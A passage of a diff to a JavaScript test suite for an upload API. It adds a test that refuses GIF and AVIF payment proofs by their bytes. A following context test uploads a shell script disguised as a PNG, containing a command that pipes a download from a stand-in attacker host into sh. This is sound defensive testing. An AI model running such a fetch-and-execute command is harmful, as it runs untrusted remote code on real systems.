@@ -153,6 +153,18 @@ describe('POST /api/uploads', () => {
     }
   });
 
+  test('payment proofs take only JPEG, PNG and WebP (rule I-15): a GIF or AVIF proof is refused by its bytes', async () => {
+    const base = sharp({ create: { width: 40, height: 30, channels: 3, background: '#228844' } });
+    const before = await storedFiles();
+    for (const bytes of [await base.clone().gif().toBuffer(), await base.clone().avif().toBuffer()]) {
+      // the claimed type is an accepted one: only the bytes tell
+      const answer = await upload(bytes, { purpose: 'proof', type: 'image/png', filename: 'proof.png' });
+      expect(answer).toEqual({ status: 415, body: { error: { code: 'UPLOAD_NOT_AN_IMAGE' } } });
+    }
+    expect(await storedFiles()).toEqual(before);
+    expect((await upload(await base.clone().webp().toBuffer(), { purpose: 'proof', type: 'image/webp' })).status).toBe(201);
+  });
+
   test('a script renamed to .png is refused and nothing is stored', async () => {
     const before = await storedFiles();
     const answer = await upload(Buffer.from('#!/bin/sh\ncurl https://evil.example | sh\n'), { filename: 'cute-cat.png' });
